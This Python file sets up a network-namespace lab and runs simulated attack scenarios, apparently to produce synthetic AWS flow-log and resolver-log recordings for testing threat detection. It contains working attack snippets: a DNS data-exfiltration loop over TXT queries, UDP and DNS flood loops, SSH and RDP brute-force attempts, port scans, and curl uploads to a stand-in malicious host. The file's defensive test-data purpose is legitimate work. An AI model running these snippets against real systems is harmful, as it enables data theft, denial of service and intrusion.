"""Attack scenarios in network namespaces, recorded from the kernel as VPC Flow Logs and Route 53
Resolver query logs (`make record-sources`, root; issue 16 items 4 and 5).

The lab: one namespace per host (``vgs-<host>``), each with a veth whose other end is a port of a
bridge in a switch namespace (``vgs-sw``). Every address is private (10.77.0.0/16) and lives only in
those namespaces; nothing is added to the host's own namespace, and no traffic leaves the lab.

- ``red``, ``linux``, ``win``: "our" EC2 instances (the amazon-guardduty-tester's red-team driver,
  its Debian target and its Windows target). Their veths are the instances' ENIs.
- ``dns``: the VPC's Route 53 Resolver (the VPC base + 2 address): a dnslib server that writes one
  Resolver query-log record per query it answers.
- ``inet1`` .. ``inet3``: hosts on the Internet (several addresses each).

Capture: an AF_PACKET socket on the switch side of each instance's veth sees every packet the ENI
sends and receives (offloads are off, so a packet is a wire packet, not a GSO super-frame). Packets
are aggregated per 5-tuple and aggregation interval (60 s, the flow-log option the template uses)
into flow-log records: packets, bytes (IP length), first/last packet time, TCP flags in the
flow-log encoding (FIN 1, SYN 2, RST 4, SYN-ACK 18, OR-ed). Every record is ACCEPT (the lab has no
security groups). Drops are counted (PACKET_STATISTICS) and written to the manifest.

Addresses are mapped when a record is written (``LAB_TO_AWS``, documented in the recordings'
README): 10.77.0.x -> 172.31.16.x (the VPC), 10.77.1.x -> 198.51.100.x and 10.77.2.x ->
203.0.113.x (public addresses, from the documentation ranges).
"""

from __future__ import annotations

import argparse
import ctypes
import gzip
import ipaddress
import json
import os
import select
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

PREFIX = "vgs"
SWITCH = f"{PREFIX}-sw"
ACCOUNT = "123456789012"
REGION = "us-east-1"
AZ_ID = "use1-az1"
VPC = "vpc-0a77f10c5e1ab0001"
SUBNET = "subnet-0a77f10c5e1ab0001"
AGGREGATION_S = 60
LAB_NET = ipaddress.ip_network("10.77.0.0/16")
LAB_TO_AWS = {"10.77.0.": "172.31.16.", "10.77.1.": "198.51.100.", "10.77.2.": "203.0.113."}
RESOLVER_IP = "10.77.0.2"
SINKHOLE_IP = "10.77.2.99"  # what the lab's resolver answers for the tester's test domains
MALICIOUS_IP = "10.77.1.50"  # the tester's MALICIOUS_IP (on its custom threat list), HTTP on 8009
EIP = "10.77.2.80"  # the tester's DoS-UDP target (an Elastic IP of its VPC)
V2_FORMAT = (
    "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action "
    "log-status"
)
V5_FORMAT = (
    V2_FORMAT
    + " vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr region az-id flow-direction"
)
GZIP_OVER = 64 * 1024  # a recording larger than this is stored gzipped (`vigil replay` reads both)
TESTER_QUERIES = Path(__file__).parent / "guardduty_tester" / "queries.txt"


@dataclass(frozen=True)
class Host:
    name: str
    addrs: tuple[str, ...]
    instance: str = ""  # an EC2 instance id: its veth is a monitored ENI
    eni: str = ""

    @property
    def ns(self) -> str:
        return f"{PREFIX}-{self.name}"

    @property
    def port(self) -> str:
        return f"p-{self.name}"


HOSTS = {
    h.name: h
    for h in (
        Host("red", ("10.77.0.10",), "i-0a77f10c5e1ab0010", "eni-0a77f10c5e1ab0010"),
        Host("linux", ("10.77.0.20",), "i-0a77f10c5e1ab0020", "eni-0a77f10c5e1ab0020"),
        Host("win", ("10.77.0.30",), "i-0a77f10c5e1ab0030", "eni-0a77f10c5e1ab0030"),
        Host("dns", (RESOLVER_IP,)),
        Host("inet1", (*(f"10.77.1.{i}" for i in range(10, 20)), MALICIOUS_IP)),
        Host("inet2", (*(f"10.77.1.{i}" for i in range(20, 30)), EIP, SINKHOLE_IP)),
        Host("inet3", tuple(f"10.77.1.{i}" for i in range(30, 40))),
    )
}
INSTANCE_OF_IP = {h.addrs[0]: h for h in HOSTS.values() if h.instance}


def to_aws(ip: str) -> str:
    """The documented lab -> AWS address mapping (every lab address is in 10.77.0.0/16)."""
    for lab, aws in LAB_TO_AWS.items():
        if ip.startswith(lab):
            return aws + ip[len(lab) :]
    raise ValueError(f"{ip} is not a lab address")


# --- namespaces ----------------------------------------------------------------------------------
def sh(*argv: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run(argv, check=check, capture_output=True, text=True)


def in_ns(
    host: str, *argv: str, check: bool = True, timeout: float = 300
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        ["ip", "netns", "exec", HOSTS[host].ns, *argv],
        check=check,
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def spawn(host: str, *argv: str) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        ["ip", "netns", "exec", HOSTS[host].ns, *argv], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )


def teardown() -> None:
    for h in HOSTS.values():
        sh("ip", "netns", "del", h.ns, check=False)
        shutil.rmtree(f"/etc/netns/{h.ns}", ignore_errors=True)
    sh("ip", "netns", "del", SWITCH, check=False)


def setup() -> None:
    teardown()
    sh("ip", "netns", "add", SWITCH)
    sh("ip", "-n", SWITCH, "link", "add", "br0", "type", "bridge")
    sh("ip", "-n", SWITCH, "link", "set", "br0", "up")
    for h in HOSTS.values():
        sh("ip", "netns", "add", h.ns)
        sh("ip", "netns", "exec", h.ns, "sysctl", "-qw", "net.ipv6.conf.all.disable_ipv6=1")
        sh(
            "ip",
            "link",
            "add",
            h.port,
            "netns",
            SWITCH,
            "type",
            "veth",
            "peer",
            "name",
            "eth0",
            "netns",
            h.ns,
        )
        sh("ip", "-n", SWITCH, "link", "set", h.port, "master", "br0", "up")
        for a in h.addrs:
            sh("ip", "-n", h.ns, "addr", "add", f"{a}/16", "dev", "eth0")
        sh("ip", "-n", h.ns, "link", "set", "lo", "up")
        sh("ip", "-n", h.ns, "link", "set", "eth0", "up")
        # wire packets, not GSO super-frames, on both ends of the "ENI"
        sh(
            "ip",
            "netns",
            "exec",
            h.ns,
            "ethtool",
            "-K",
            "eth0",
            "tso",
            "off",
            "gso",
            "off",
            "gro",
            "off",
            check=False,
        )
        sh(
            "ip",
            "netns",
            "exec",
            SWITCH,
            "ethtool",
            "-K",
            h.port,
            "tso",
            "off",
            "gso",
            "off",
            "gro",
            "off",
            check=False,
        )
        # `ip netns exec` bind-mounts this over /etc/resolv.conf: the lab's hosts ask the lab's resolver
        Path(f"/etc/netns/{h.ns}").mkdir(parents=True, exist_ok=True)
        Path(f"/etc/netns/{h.ns}/resolv.conf").write_text(
            f"nameserver {RESOLVER_IP}\noptions timeout:1 attempts:1\n"
        )


_libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNET = 0x40000000


@contextmanager
def netns(name: str) -> Iterator[None]:
    """Run the block in namespace ``name`` (this thread only); sockets made there stay there."""
    own = os.open("/proc/thread-self/ns/net", os.O_RDONLY)
    target = os.open(f"/run/netns/{name}", os.O_RDONLY)
    try:
        if _libc.setns(target, CLONE_NEWNET) != 0:
            raise OSError(ctypes.get_errno(), f"setns {name}")
        yield
    finally:
        _libc.setns(own, CLONE_NEWNET)
        os.close(own)
        os.close(target)


# --- capture: packets -> flow-log records ---------------------------------------------------------
ETH_P_ALL = 0x0003
SOL_PACKET = 263
PACKET_STATISTICS = 6


def flowlog_flags(tcp: int) -> int:
    """TCP header flags -> the flow-log tcp-flags bits (FIN 1, SYN 2, RST 4, SYN-ACK 18)."""
    out = tcp & 0x07
    if tcp & 0x12 == 0x12:
        out |= 18
    return out


@dataclass
class Flow:
    packets: int = 0
    bytes: int = 0
    first: float = 0.0
    last: float = 0.0
    flags: int = 0


@dataclass
class Capture:
    hosts: tuple[Host, ...]
    t0: float = field(default_factory=time.time)
    flows: dict[tuple[str, str, str, int, int, int, int], Flow] = field(default_factory=dict)
    packets: int = 0
    drops: int = 0
    _socks: dict[int, tuple[socket.socket, Host]] = field(default_factory=dict)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None

    def start(self) -> None:
        with netns(SWITCH):
            for h in self.hosts:
                s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
                s.setsockopt(socket.SOL_SOCKET, 33, 64 << 20)  # SO_RCVBUFFORCE: bursts of ~100k packets
                s.bind((h.port, 0))
                s.setblocking(False)
                self._socks[s.fileno()] = (s, h)
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()

    def _loop(self) -> None:
        socks = [s for s, _ in self._socks.values()]
        while True:
            ready, _, _ = select.select(socks, [], [], 0.05)
            for s in ready:
                self._drain(s, self._socks[s.fileno()][1])
            if self._stop.is_set() and not ready:
                return

    def _drain(self, s: socket.socket, h: Host) -> None:
        flows = self.flows
        while True:
            try:
                b = s.recv(65535)
            except BlockingIOError:
                return
            now = time.time()
            if len(b) < 34 or b[12:14] != b"\x08\x00":
                continue  # IPv4 only (ARP and the like are not in flow logs)
            ihl = (b[14] & 0x0F) * 4
            total = (b[16] << 8) | b[17]
            proto = b[23]
            src, dst = socket.inet_ntoa(b[26:30]), socket.inet_ntoa(b[30:34])
            sport = dport = flags = 0
            l4 = 14 + ihl
            first_fragment = ((b[20] & 0x1F) << 8 | b[21]) == 0
            if proto in (6, 17) and first_fragment and len(b) >= l4 + 4:
                sport, dport = struct.unpack_from("!HH", b, l4)
                if proto == 6 and len(b) >= l4 + 14:
                    flags = flowlog_flags(b[l4 + 13])
            key = (h.name, src, dst, sport, dport, proto, int((now - self.t0) // AGGREGATION_S))
            f = flows.get(key)
            if f is None:
                f = flows[key] = Flow(first=now)
            f.packets += 1
            f.bytes += total
            f.last = now
            f.flags |= flags
            self.packets += 1

    def stop(self) -> None:
        time.sleep(0.3)  # the last replies
        self._stop.set()
        if self._thread:
            self._thread.join()
        for s, _ in self._socks.values():
            _, dropped = struct.unpack("II", s.getsockopt(SOL_PACKET, PACKET_STATISTICS, 8))
            self.drops += dropped
            s.close()

    def records(self) -> list[dict[str, Any]]:
        out = []
        for (name, src, dst, sport, dport, proto, _), f in self.flows.items():
            if not (ipaddress.ip_address(src) in LAB_NET and ipaddress.ip_address(dst) in LAB_NET):
                continue
            h = HOSTS[name]
            out.append(
                {
                    "host": h,
                    "src": to_aws(src),
                    "dst": to_aws(dst),
                    "sport": sport,
                    "dport": dport,
                    "proto": proto,
                    "packets": f.packets,
                    "bytes": f.bytes,
                    "start": int(f.first),
                    "end": int(f.last),
                    "flags": f.flags if proto == 6 else None,
                    "direction": "ingress" if dst == h.addrs[0] else "egress",
                }
            )
        out.sort(key=lambda r: (r["start"], r["host"].name, r["src"], r["sport"], r["dst"], r["dport"]))
        return out


def v2_line(r: dict[str, Any]) -> str:
    h: Host = r["host"]
    return (
        f"2 {ACCOUNT} {h.eni} {r['src']} {r['dst']} {r['sport']} {r['dport']} {r['proto']} {r['packets']} "
        f"{r['bytes']} {r['start']} {r['end']} ACCEPT OK"
    )


def v5_line(r: dict[str, Any]) -> str:
    h: Host = r["host"]
    flags = "-" if r["flags"] is None else str(r["flags"])
    return (
        f"5 {ACCOUNT} {h.eni} {r['src']} {r['dst']} {r['sport']} {r['dport']} {r['proto']} {r['packets']} "
        f"{r['bytes']} {r['start']} {r['end']} ACCEPT OK {VPC} {SUBNET} {h.instance} {flags} IPv4 "
        f"{r['src']} {r['dst']} {REGION} {AZ_ID} {r['direction']}"
    )


# --- the VPC's Resolver: answers queries and writes Route 53 Resolver query-log records ------------
TESTER_ZONES = (
    "guarddutyc2activityb.com",
    "guarddutyblackholeactivity.com",
    "guarddutydgaactivity.com",
    "guarddutydrivebyactivity.com",
    "guarddutydroppointactivity.com",
    "guarddutyphishingactivity.com",
)


@dataclass
class Resolver:
    log: list[dict[str, Any]] = field(default_factory=list)
    _stop: threading.Event = field(default_factory=threading.Event)
    _thread: threading.Thread | None = None
    _sock: socket.socket | None = None

    def start(self) -> None:
        with netns(HOSTS["dns"].ns):
            self._sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            self._sock.bind((RESOLVER_IP, 53))
        self._sock.settimeout(0.1)
        self._thread = threading.Thread(target=self._loop, daemon=True)
        self._thread.start()

    def _loop(self) -> None:
        from dnslib import QTYPE, RCODE, RR, A, DNSRecord

        assert self._sock is not None
        while not self._stop.is_set():
            try:
                data, (ip, port) = self._sock.recvfrom(4096)
            except TimeoutError:
                continue
            try:
                q = DNSRecord.parse(data)
                name = str(q.q.qname)
                qtype = QTYPE.get(q.q.qtype, str(q.q.qtype))
            except Exception:  # not DNS: the Resolver does not log it
                continue
            reply = q.reply()
            bare = name.rstrip(".").lower()
            answers = []
            if any(bare == z or bare.endswith("." + z) for z in TESTER_ZONES):
                if qtype == "A":
                    reply.add_answer(RR(q.q.qname, QTYPE.A, rdata=A(SINKHOLE_IP), ttl=60))
                    answers.append({"Rdata": to_aws(SINKHOLE_IP), "Type": "A", "Class": "IN"})
                rcode = "NOERROR"
            else:
                reply.header.rcode = RCODE.NXDOMAIN
                rcode = "NXDOMAIN"
            self._sock.sendto(reply.pack(), (ip, port))
            inst = INSTANCE_OF_IP.get(ip)
            if inst is None:
                continue
            self.log.append(
                {
                    "version": "1.100000",
                    "account_id": ACCOUNT,
                    "region": REGION,
                    "vpc_id": VPC,
                    "query_timestamp": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime()),
                    "query_name": name,
                    "query_type": qtype,
                    "query_class": "IN",
                    "rcode": rcode,
                    "answers": answers,
                    "srcaddr": to_aws(ip),
                    "srcport": str(port),
                    "transport": "UDP",
                    "srcids": {"instance": inst.instance},
                }
            )

    def stop(self) -> None:
        self._stop.set()
        if self._thread:
            self._thread.join()
        if self._sock:
            self._sock.close()


# --- scenarios -----------------------------------------------------------------------------------
PY = sys.executable


@dataclass(frozen=True)
class Scenario:
    name: str
    summary: str
    record: tuple[str, ...]  # the hosts whose ENIs are recorded
    run: Callable[[Path], list[str]]  # runs the traffic; returns the commands, for the manifest


def _portscan(target: str, scanner: str = "red") -> Callable[[Path], list[str]]:
    def run(_: Path) -> list[str]:
        argv = ["nmap", "-sT", "-Pn", "-n", target]
        in_ns(scanner, *argv)
        return [f"{scanner}$ {' '.join(argv)}"]

    return run


def _sweep(_: Path) -> list[str]:
    argv = ["nmap", "-sT", "-Pn", "-n", "-p", "6379", "10.77.1.10-39"]
    in_ns("red", *argv)
    return [f"red$ {' '.join(argv)}"]


SSH_USERS = ("root", "ubuntu", "admin", "ec2-user", "debian")


def _ssh_bruteforce(attacker: str, attempts: int = 25) -> Callable[[Path], list[str]]:
    def run(tmp: Path) -> list[str]:
        Path("/run/sshd").mkdir(exist_ok=True)
        if not (tmp / "hostkey").exists():
            sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp / "hostkey"))
            sh("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(tmp / "compromised_key"))
            (tmp / "authorized_keys").write_text("")
            (tmp / "sshd_config").write_text(
                f"ListenAddress {HOSTS['linux'].addrs[0]}\nHostKey {tmp}/hostkey\nPidFile {tmp}/sshd.pid\n"
                f"AuthorizedKeysFile {tmp}/authorized_keys\nUsePAM no\nPasswordAuthentication no\n"
                "KbdInteractiveAuthentication no\nStrictModes no\nMaxStartups 200\nMaxAuthTries 2\n"
            )
        sshd = spawn("linux", "/usr/sbin/sshd", "-D", "-e", "-f", str(tmp / "sshd_config"))
        try:
            time.sleep(0.5)
            argv = [
                "ssh",
                "-F",
                "/dev/null",
                "-o",
                "BatchMode=yes",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "IdentitiesOnly=yes",
                "-o",
                "ConnectTimeout=3",
                "-i",
                str(tmp / "compromised_key"),
            ]
            for i in range(attempts):
                in_ns(
                    attacker,
                    *argv,
                    f"{SSH_USERS[i % len(SSH_USERS)]}@{HOSTS['linux'].addrs[0]}",
                    "true",
                    check=False,
                )
        finally:
            sshd.terminate()
            sshd.wait()
        return [
            "linux$ sshd -D -f sshd_config  (publickey only, no authorized keys)",
            f"{attacker}$ {attempts} x ssh -i compromised_key <user>@{HOSTS['linux'].addrs[0]} true  (all refused)",
        ]

    return run


def _exfil_loop(_: Path) -> list[str]:
    code = (
        "import base64,sys\n"
        "from dnslib import DNSRecord\n"
        "data=open('/etc/services','rb').read()[:2400]\n"
        "for i in range(0,len(data),30):\n"
        "    label=base64.b32encode(data[i:i+30]).decode().rstrip('=').lower()\n"
        "    DNSRecord.question(f'{label}.{i//30}.t.qx-relay.net','TXT').send(sys.argv[1],53,timeout=1)\n"
    )
    in_ns("red", PY, "-c", code, RESOLVER_IP)
    return [
        "red$ python: /etc/services (2,400 bytes) in base32 labels of 48 chars, one TXT query per 30 bytes, "
        "<chunk>.<n>.t.qx-relay.net"
    ]


def _sink(host: str, ip: str, port: int, proto: str) -> subprocess.Popen[bytes]:
    if proto == "udp":
        code = "import socket,sys,time\ns=socket.socket(2,2);s.bind((sys.argv[1],int(sys.argv[2])))\ntime.sleep(600)"
    else:
        code = (
            "import socket,sys,threading\n"
            "s=socket.socket();s.setsockopt(1,2,1);s.bind((sys.argv[1],int(sys.argv[2])));s.listen(64)\n"
            "def serve(c):\n"
            "    with c:\n"
            "        while c.recv(1<<16): pass\n"
            "while True:\n"
            "    c,_=s.accept();threading.Thread(target=serve,args=(c,),daemon=True).start()\n"
        )
    p = spawn(host, PY, "-c", code, ip, str(port))
    time.sleep(0.4)
    return p


def _volume_burst(_: Path) -> list[str]:
    sink = _sink("inet2", "10.77.1.20", 443, "tcp")
    code = (
        "import socket,sys,time\n"
        "buf=b'\\0'*65536\n"
        "for burst in range(3):\n"
        "    s=socket.create_connection((sys.argv[1],443))\n"
        "    for _ in range(256): s.sendall(buf)\n"
        "    s.close(); time.sleep(1)\n"
    )
    try:
        in_ns("red", PY, "-c", code, "10.77.1.20")
    finally:
        sink.terminate()
        sink.wait()
    return [
        "inet2$ TCP sink on 10.77.1.20:443",
        "red$ 3 bursts of 16 MiB to 10.77.1.20:443, one connection each",
    ]


FLOOD = 65_000  # the tester sends 400,000; 65,000 puts 30,000 (our threshold) in one minute even across a boundary


def _dos_udp(_: Path) -> list[str]:
    # the tester's DenialOfService-UDP.sh (one socket, 256-byte payload), PORT=80, to its VPC's EIP
    code = (
        "import socket,random,string,sys\n"
        "payload=''.join(random.choice(string.ascii_lowercase) for _ in range(256)).encode()\n"
        "s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
        "for i in range(int(sys.argv[2])): s.sendto(payload,(sys.argv[1],80))\n"
        "s.close()\n"
    )
    sink = _sink("inet2", EIP, 80, "udp")
    try:
        in_ns("red", PY, "-c", code, EIP, str(FLOOD))
    finally:
        sink.terminate()
        sink.wait()
    return [f"red$ DenialOfService-UDP.sh: {FLOOD:,} x sendto(256 random bytes, ({EIP}, 80)) on one socket"]


def _dos_dns(_: Path) -> list[str]:
    # the tester's DenialOfService-DNS.sh: a new socket (a new source port) per packet, PORT=53
    code = (
        "import socket,random,string,sys\n"
        "payload=''.join(random.choice(string.ascii_lowercase) for _ in range(64)).encode()\n"
        "for i in range(int(sys.argv[2])):\n"
        "    s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(('',0))\n"
        "    s.sendto(payload,(sys.argv[1],53)); s.close()\n"
    )
    sink = _sink("inet1", MALICIOUS_IP, 53, "udp")
    try:
        in_ns("red", PY, "-c", code, MALICIOUS_IP, str(FLOOD))
    finally:
        sink.terminate()
        sink.wait()
    return [
        f"red$ DenialOfService-DNS.sh: {FLOOD:,} x (new socket, sendto(64 random bytes, ({MALICIOUS_IP}, 53)))"
    ]


TESTER_DOMAINS = (
    "c2.guarddutyc2activityb.com",
    "crypto.guarddutyc2activityb.com",
    "abused-rep.guarddutyc2activityb.com",
    "crypto-rep.guarddutyc2activityb.com",
    "malicious-rep.guarddutyc2activityb.com",
    "suspicious-rep.guarddutyc2activityb.com",
    "guarddutyblackholeactivity.com",
    "guarddutydgaactivity.com",
    "guarddutydrivebyactivity.com",
    "guarddutydroppointactivity.com",
    "guarddutyphishingactivity.com",
)


def _tester_domains(tmp: Path) -> list[str]:
    # the tester's threatIntel/request.sh, once per EC2 check's indicator
    payload = tmp / "PAYLOAD"
    payload.write_bytes(os.urandom(1024))
    cmds = []
    for d in TESTER_DOMAINS:
        argv = [
            "curl",
            "-X",
            "POST",
            "-F",
            f"file=@{payload}",
            "-s",
            "--connect-timeout",
            "1",
            f"http://{d}/sample.dat",
        ]
        in_ns("linux", *argv, check=False)
        cmds.append(f"linux$ {' '.join(argv).replace(str(payload), 'PAYLOAD')}")
        time.sleep(1.1)  # one second apart: each query its own query_timestamp
    return cmds


def _tester_exfiltration(_: Path) -> list[str]:
    # the tester's DNSDataExfiltration.sh: dig -f queries.txt (its 930 queries under the C&C test zone)
    in_ns("red", "dig", "-f", str(TESTER_QUERIES), check=False, timeout=900)
    return ["red$ dig -f queries.txt   (amazon-guardduty-tester artifacts/queries.txt)"]


def _tester_malicious_ip(tmp: Path) -> list[str]:
    # the tester's threatIntel/request.sh with INDICATOR=$MALICIOUS_IP:8009 (a web server there)
    payload = tmp / "PAYLOAD"
    payload.write_bytes(os.urandom(1024))
    web = spawn("inet1", PY, "-m", "http.server", "--bind", MALICIOUS_IP, "8009", "--directory", str(tmp))
    time.sleep(0.8)
    try:
        argv = [
            "curl",
            "-X",
            "POST",
            "-F",
            f"file=@{payload}",
            "-s",
            "--connect-timeout",
            "1",
            f"http://{MALICIOUS_IP}:8009/sample.dat",
        ]
        in_ns("red", *argv, check=False)
    finally:
        web.terminate()
        web.wait()
    return [
        f"inet1$ python -m http.server --bind {MALICIOUS_IP} 8009",
        f"red$ curl -X POST -F file=@PAYLOAD -s --connect-timeout 1 http://{MALICIOUS_IP}:8009/sample.dat",
    ]


RDP_SERVER = (
    "import socket,sys,threading\n"
    "CC=bytes.fromhex('0300001300000e d0000012340002080000000000'.replace(' ',''))\n"
    "s=socket.socket();s.setsockopt(1,2,1);s.bind((sys.argv[1],3389));s.listen(64)\n"
    "def serve(c):\n"
    "    with c:\n"
    "        c.settimeout(2)\n"
    "        try:\n"
    "            c.recv(4096); c.sendall(CC); c.recv(4096)\n"
    "        except OSError: pass\n"
    "while True:\n"
    "    c,_=s.accept();threading.Thread(target=serve,args=(c,),daemon=True).start()\n"
)
RDP_CLIENT = (
    "import socket,sys,time\n"
    "for i in range(int(sys.argv[2])):\n"
    "    cookie=b'Cookie: mstshash=administrator\\r\\n'\n"
    "    neg=bytes.fromhex('010008000b000000')\n"
    "    x224=bytes([6+len(cookie)+len(neg),0xe0,0,0,0,0,0])+cookie+neg\n"
    "    tpkt=bytes([3,0])+(4+len(x224)).to_bytes(2,'big')+x224\n"
    "    s=socket.create_connection((sys.argv[1],3389),timeout=2)\n"
    "    s.sendall(tpkt); s.recv(4096); s.sendall(b'\\x16\\x03\\x01'+bytes(200)); s.close()\n"
)


def _tester_rdp(_: Path) -> list[str]:
    # hydra rdp://$WINDOWS_IP: one connection per password tried. No RDP server here: a listener
    # answers the X.224 Connection Request with a Connection Confirm and reads the next message.
    server = spawn("win", PY, "-c", RDP_SERVER, HOSTS["win"].addrs[0])
    time.sleep(0.5)
    try:
        in_ns("red", PY, "-c", RDP_CLIENT, HOSTS["win"].addrs[0], "30")
    finally:
        server.terminate()
        server.wait()
    return [
        "win$ RDP listener on 10.77.0.30:3389 (X.224 Connection Confirm, then reads one message)",
        "red$ 30 x (X.224 Connection Request 'mstshash=administrator', then a TLS-like record, close)",
    ]


SCENARIOS = (
    Scenario(
        "portscan",
        "red scans the top 1,000 TCP ports of an Internet host (nmap -sT)",
        ("red",),
        _portscan("10.77.1.10"),
    ),
    Scenario(
        "portsweep",
        "red probes port 6379 on 30 Internet hosts in three namespaces (nmap -sT)",
        ("red",),
        _sweep,
    ),
    Scenario(
        "ssh_bruteforce_internet",
        "an Internet host tries 25 SSH logins (public key) on linux's sshd",
        ("linux",),
        _ssh_bruteforce("inet3"),
    ),
    Scenario(
        "dns_exfiltration",
        "red sends /etc/services out in base32 subdomains of one zone (80 TXT queries)",
        ("red",),
        _exfil_loop,
    ),
    Scenario(
        "volume_burst",
        "red sends three 16 MiB bursts to one Internet host (TCP 443)",
        ("red",),
        _volume_burst,
    ),
    Scenario(
        "tester_dos_udp", "tester DenialOfService-UDP.sh (UDP to port 80 of an EIP)", ("red",), _dos_udp
    ),
    Scenario(
        "tester_dos_dns",
        "tester DenialOfService-DNS.sh (UDP to port 53, a new source port per packet)",
        ("red",),
        _dos_dns,
    ),
    Scenario(
        "tester_portscan",
        "tester Portscan.sh: linux runs nmap -sT -Pn against RED_TEAM_IP (a VPC address)",
        ("linux",),
        _portscan(HOSTS["red"].addrs[0], scanner="linux"),
    ),
    Scenario(
        "tester_ssh_bruteforce",
        "tester SSHBruteForce.sh: red tries 25 key logins on linux (both ENIs)",
        ("red", "linux"),
        _ssh_bruteforce("red"),
    ),
    Scenario(
        "tester_rdp_bruteforce",
        "tester RDPBruteForce.sh: red makes 30 RDP login attempts on win (both ENIs)",
        ("red", "win"),
        _tester_rdp,
    ),
    Scenario(
        "tester_dns_domains",
        "tester threatIntel/request.sh: linux curls each EC2 check's test domain",
        ("linux",),
        _tester_domains,
    ),
    Scenario(
        "tester_dns_exfiltration",
        "tester DNSDataExfiltration.sh: red runs dig -f queries.txt",
        ("red",),
        _tester_exfiltration,
    ),
    Scenario(
        "tester_malicious_ip_caller",
        "tester MaliciousIPCaller.Custom: red POSTs to MALICIOUS_IP:8009",
        ("red",),
        _tester_malicious_ip,
    ),
)


def _write(path: Path, lines: list[str]) -> str:
    body = ("\n".join(lines) + "\n").encode() if lines else b""
    if len(body) > GZIP_OVER:
        path = path.with_name(path.name + ".gz")
        path.write_bytes(gzip.compress(body, 9, mtime=0))
    else:
        path.write_bytes(body)
    return path.name


def record(scenario: Scenario, out: Path, tmp: Path) -> dict[str, Any]:
    hosts = tuple(HOSTS[n] for n in scenario.record)
    cap = Capture(hosts)
    res = Resolver()
    res.start()
    cap.start()
    t0 = time.time()
    try:
        commands = scenario.run(tmp)
    finally:
        cap.stop()
        res.stop()
    recs = cap.records()
    files = {}
    if recs:
        files["flowlogs_v2"] = _write(out / f"{scenario.name}.flowlogs.log", [v2_line(r) for r in recs])
        files["flowlogs_v5"] = _write(
            out / f"{scenario.name}.flowlogs-v5.log", [V5_FORMAT] + [v5_line(r) for r in recs]
        )
    if res.log:
        files["resolver"] = _write(
            out / f"{scenario.name}.resolver.ndjson", [json.dumps(r, separators=(",", ":")) for r in res.log]
        )
    return {
        "summary": scenario.summary,
        "commands": commands,
        "enis": {h.eni: h.instance for h in hosts},
        "recorded_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t0)),
        "seconds": round(time.time() - t0, 1),
        "packets_captured": cap.packets,
        "packets_dropped": cap.drops,
        "flow_records": len(recs),
        "resolver_records": len(res.log),
        "files": files,
    }


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default="events/sources/recorded")
    ap.add_argument("--only", nargs="*", help="scenario names (default: all)")
    args = ap.parse_args(argv)
    if os.geteuid() != 0:
        print("record-sources: needs root (network namespaces, AF_PACKET)", file=sys.stderr)
        return 2
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    manifest_path = out / "manifest.json"
    manifest = json.loads(manifest_path.read_text()) if manifest_path.exists() else {}
    manifest.setdefault("lab", {})
    manifest["lab"] = {
        "address_map": LAB_TO_AWS,
        "aggregation_interval_s": AGGREGATION_S,
        "account": ACCOUNT,
        "region": REGION,
        "vpc": VPC,
        "subnet": SUBNET,
        "instances": {
            h.name: {"instance": h.instance, "eni": h.eni, "lab_ip": h.addrs[0], "aws_ip": to_aws(h.addrs[0])}
            for h in HOSTS.values()
            if h.instance
        },
        "resolver": {"lab_ip": RESOLVER_IP, "aws_ip": to_aws(RESOLVER_IP)},
        "malicious_ip": to_aws(MALICIOUS_IP),
        "v5_format": V5_FORMAT,
    }
    # the tester's tester_script_custom_threat.txt: its MALICIOUS_IP, uploaded as a ThreatIntelSet
    (out / "tester_custom_threat_list.txt").write_text(to_aws(MALICIOUS_IP) + "\n")
    scenarios = manifest.setdefault("scenarios", {})
    chosen = [s for s in SCENARIOS if not args.only or s.name in args.only]
    setup()
    tmp = Path(tempfile.mkdtemp(prefix="vgs-"))
    try:
        for s in chosen:
            for old in out.glob(f"{s.name}.*"):
                old.unlink()
            got = record(s, out, tmp)
            scenarios[s.name] = got
            print(
                f"{s.name}: {got['packets_captured']} packets ({got['packets_dropped']} dropped) -> "
                f"{got['flow_records']} flow records, {got['resolver_records']} resolver records in {got['seconds']} s",
                flush=True,
            )
    finally:
        teardown()
        shutil.rmtree(tmp, ignore_errors=True)
    manifest["scenarios"] = dict(sorted(scenarios.items()))
    manifest_path.write_text(json.dumps(manifest, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
